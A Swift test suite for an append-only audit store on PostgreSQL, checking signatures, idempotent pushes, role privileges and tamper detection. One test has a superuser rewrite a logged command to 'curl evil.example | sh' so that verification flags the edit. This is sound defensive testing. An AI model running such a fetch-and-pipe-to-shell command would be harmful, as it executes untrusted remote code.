import Audit
@testable import AuditStore
import Foundation
import PartnerCore
import PostgresServer
import Synchronization
import Testing

/// The central store against a real PostgreSQL server (Debian's, started by the test).
@Suite("central audit store on a real PostgreSQL server")
struct AuditStoreTests {
    typealias Fixture = StoreFixture

    @Test("a pushed session keeps its rows and signature exactly, and verifies in the store with the team's key")
    func roundTrip() throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        let ids = try (0..<3).map { _ in try Fixture.recordSession(in: log).id }
        let report = try fixture.store(Fixture.machineA).push(from: log)
        #expect(report.sessions.map(\.outcome) == [.shipped, .shipped, .shipped])
        #expect(report.eventsAdded == 3 * 8)

        let auditor = try fixture.store(Fixture.auditor)
        for id in ids {
            #expect(try auditor.storedEvents(session: id) == log.storedEvents(session: id))
            let stored = try auditor.session(id), local = try log.session(id)
            #expect(stored.summary.signature == local.signature && local.signature != nil)
            #expect(stored.summary.headHash == local.headHash)
            #expect(stored.summary.publicKey == local.publicKey)
            #expect(stored.summary.endEventCount == local.endEventCount)
            #expect(stored.machine == Fixture.machineA)
            #expect(stored.repository == "git@example.com:team/repo.git")
            #expect(stored.summary.user == "dev" && stored.summary.host == "box")
        }
        let verified = try auditor.verify(trustedKey: fixture.key.publicKey, requireSignature: true)
        #expect(verified.ok)
        #expect(verified.sessions.map(\.signature) == [.trusted, .trusted, .trusted])

        let wrongKey = try auditor.verify(trustedKey: AuditSigningKey.generate().publicKey)
        #expect(!wrongKey.ok)
        #expect(wrongKey.sessions.allSatisfy { $0.signature == .wrongKey && $0.firstBreak?.kind == .signature })

        let stats = try auditor.stats()
        #expect(stats.sessions == 3 && stats.events == 24)
        #expect(stats.denialsByRule == [AuditCount(name: "build", count: 3)])
        #expect(stats.toolCalls == [AuditCount(name: "run_command", count: 9)])
    }

    @Test("pushing again adds nothing; a session shipped while it ran gets its rest and its end later, each event once")
    func idempotentAndResumable() throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        let ended = try Fixture.recordSession(in: log)
        let running = try Fixture.recordSession(in: log, steps: 2, end: false)
        let store = try fixture.store(Fixture.machineA)

        let first = try store.push(from: log)
        #expect(first.sessions.map(\.outcome) == [.shipped, .partial])
        let again = try store.push(from: log)
        #expect(again.sessions.map(\.outcome) == [.alreadyShipped, .partial])
        #expect(again.eventsAdded == 0)

        try running.record(AuditToolCall(callID: "late", name: "read_file", arguments: ["path": "a.txt"]))
        try running.end(outcome: .failed)
        let last = try store.push(from: log, sessions: [running.id])
        #expect(last.sessions.map(\.outcome) == [.shipped])
        #expect(last.sessions.first?.added == 2)

        let rows = try fixture.connection(Fixture.auditor).execute("""
            SELECT count(*), count(DISTINCT (session_id, seq, hash)) FROM partner_audit.events
            """)
        let local = try log.storedEvents(session: ended.id).count + log.storedEvents(session: running.id).count
        #expect(rows.first == [String(local), String(local)])
        #expect(try fixture.store(Fixture.auditor).verify(trustedKey: fixture.key.publicKey).ok)
    }

    @Test("four pushes of the same log at the same moment all succeed and store every event exactly once")
    func concurrentPushes() throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        for _ in 0..<30 { try Fixture.recordSession(in: log, steps: 4) }
        let url = fixture.url(Fixture.machineA)
        let failures = Mutex<[String]>([])
        DispatchQueue.concurrentPerform(iterations: 4) { _ in
            do {
                _ = try AuditStore.connect(url).push(from: log)
            } catch {
                failures.withLock { $0.append("\(error)") }
            }
        }
        #expect(failures.withLock { $0 } == [])
        let rows = try fixture.connection(Fixture.auditor).execute("""
            SELECT count(*), count(DISTINCT (session_id, seq, hash)), (SELECT count(*) FROM partner_audit.session_ends)
            FROM partner_audit.events
            """)
        #expect(rows.first == ["300", "300", "30"])
        #expect(try fixture.store(Fixture.auditor).verify(trustedKey: fixture.key.publicKey).ok)
    }

    @Test("a row a superuser edits in the store (triggers disabled) is caught by verify --store, which names it")
    func superuserEditCaught() throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        let untouched = try Fixture.recordSession(in: log).id
        let edited = try Fixture.recordSession(in: log).id
        _ = try fixture.store(Fixture.machineA).push(from: log)

        let superuser = try fixture.connection(PostgresServer.superuser)
        // Even the superuser meets the trigger first.
        #expect(throws: AuditStoreError.self) {
            try superuser.execute("UPDATE partner_audit.events SET kind = kind WHERE session_id = $1", [edited])
        }
        try superuser.executeScript("ALTER TABLE partner_audit.events DISABLE TRIGGER events_append_only")
        try superuser.execute("""
            UPDATE partner_audit.events SET payload = replace(payload, 'swift test', 'curl evil.example | sh')
            WHERE session_id = $1 AND seq = 4
            """, [edited])
        try superuser.executeScript("ALTER TABLE partner_audit.events ENABLE TRIGGER events_append_only")

        let report = try fixture.store(Fixture.auditor).verify(trustedKey: fixture.key.publicKey)
        #expect(!report.ok)
        let bad = try #require(report.sessions.first { $0.session == edited })
        #expect(bad.firstBreak?.kind == .edited)
        #expect(bad.firstBreak?.seq == 4)
        #expect(report.sessions.first { $0.session == untouched }?.ok == true)
    }

    /// A statement each role must be refused, and the SQLSTATE that refuses it.
    struct Refusal: Sendable, CustomTestStringConvertible {
        let role: String
        let sql: String
        let why: String
        var testDescription: String { "\(role): \(why)" }
    }

    static let refusals: [Refusal] = [
        Refusal(role: Fixture.machineA, sql: "UPDATE partner_audit.events SET kind = 'x'", why: "a writer cannot UPDATE events"),
        Refusal(role: Fixture.machineA, sql: "DELETE FROM partner_audit.events", why: "a writer cannot DELETE events"),
        Refusal(role: Fixture.machineA, sql: "UPDATE partner_audit.sessions SET task = 'x'", why: "a writer cannot UPDATE sessions"),
        Refusal(role: Fixture.machineA, sql: "DELETE FROM partner_audit.session_ends", why: "a writer cannot DELETE ends"),
        Refusal(role: Fixture.machineA, sql: "TRUNCATE partner_audit.events", why: "a writer cannot TRUNCATE"),
        Refusal(role: Fixture.auditor, sql: """
            INSERT INTO partner_audit.sessions(id, started_at, command, task, "user", host, pid)
            VALUES ('forged', 't', 'run', 'x', 'u', 'h', 1)
            """, why: "an auditor cannot INSERT"),
        Refusal(role: Fixture.auditor, sql: "DELETE FROM partner_audit.events", why: "an auditor cannot DELETE"),
        Refusal(role: Fixture.machineB, sql: """
            INSERT INTO partner_audit.sessions(id, machine, started_at, command, task, "user", host, pid)
            VALUES ('forged', 'machine_a', 't', 'run', 'x', 'u', 'h', 1)
            """, why: "machine B cannot add a session under machine A"),
        Refusal(role: Fixture.machineB, sql: """
            INSERT INTO partner_audit.events SELECT id, 99, 't', 'tool_call', '{}', '[]', 'a', 'b'
            FROM (VALUES ((SELECT min(id) FROM partner_audit.sessions))) v(id)
            """, why: "machine B cannot add events to a session it cannot see"),
    ]

    @Test("the roles: writers only add, auditors only read, a machine only under its own name", arguments: refusals)
    func privileges(_ refusal: Refusal) throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        let session = try Fixture.recordSession(in: log).id
        _ = try fixture.store(Fixture.machineA).push(from: log)
        // B's statements name A's session by id, which B cannot read: give it in the SQL.
        let sql = refusal.sql.replacingOccurrences(of: "(SELECT min(id) FROM partner_audit.sessions)", with: "'\(session)'")
        let error = try #require(throws: AuditStoreError.self) { try fixture.connection(refusal.role).execute(sql) }
        #expect(error.code == .permission, "\(error.message)")
        #expect(error.sqlState == "42501", "\(error.message)")
        // Nothing changed: the session still verifies, whole.
        #expect(try fixture.store(Fixture.auditor).verify(session: session, trustedKey: fixture.key.publicKey).ok)
    }

    @Test("machine B sees none of machine A's sessions and cannot push a copy of one")
    func machinesAreSeparate() throws {
        let fixture = try Fixture()
        defer { fixture.remove() }
        let log = try fixture.openLog()
        let session = try Fixture.recordSession(in: log).id
        _ = try fixture.store(Fixture.machineA).push(from: log)
        let machineB = try fixture.store(Fixture.machineB)
        #expect(try machineB.sessions().isEmpty)
        let error = try #require(throws: AuditStoreError.self) { try machineB.push(from: log) }
        #expect(error.code == .conflict)
        #expect(error.message.contains(session))
        #expect(try fixture.store(Fixture.auditor).sessions().map(\.machine) == [Fixture.machineA])
    }

    @Test("bad input gets a clear error: malformed URL, no server, wrong password, no schema; passwords never shown")
    func errors() throws {
        let notPostgres = try #require(throws: AuditStoreError.self) { _ = try AuditStoreURL("mysql://root@db/partner") }
        #expect(notPostgres.code == .invalidURL && notPostgres.message.contains("postgres://"))
        let malformed = try #require(throws: AuditStoreError.self) { _ = try AuditStoreURL("postgres://a@/db?nonsense=1") }
        #expect(malformed.code == .invalidURL && malformed.message.contains("nonsense"))
        #expect(try AuditStoreURL("postgres://ana:hunter22@db/partner?sslmode=require").description
                == "postgres://ana:***@db/partner?sslmode=require")

        let empty = NSTemporaryDirectory() + "partner-no-server-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: empty, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: empty) }
        let unreachable = try #require(throws: AuditStoreError.self) {
            _ = try AuditStore.connect("postgres://a:secret-pw@/partner?host=\(empty)")
        }
        #expect(unreachable.code == .unreachable)
        #expect(unreachable.message.contains("server is running") && !unreachable.message.contains("secret-pw"))

        let fixture = try Fixture()
        defer { fixture.remove() }
        let wrong = try #require(throws: AuditStoreError.self) {
            _ = try AuditStore.connect(fixture.server.url(role: Fixture.machineA, password: "wrong"))
        }
        #expect(wrong.code == .authentication)
        try fixture.server.superuserSQL("CREATE DATABASE bare", database: "postgres")
        let bare = try #require(throws: AuditStoreError.self) {
            _ = try AuditStore.connect(fixture.server.url(role: PostgresServer.superuser,
                                                          password: fixture.server.superuserPassword, database: "bare"))
        }
        #expect(bare.code == .notInitialised && bare.message.contains("partner audit store init"))
        // init is idempotent: a second run applies nothing.
        let again = try AuditStoreSchema.initialise(try AuditStoreURL(fixture.server.superuserURL))
        #expect(again.applied.isEmpty && again.present.count == AuditStoreSchema.migrations.count)
    }
}
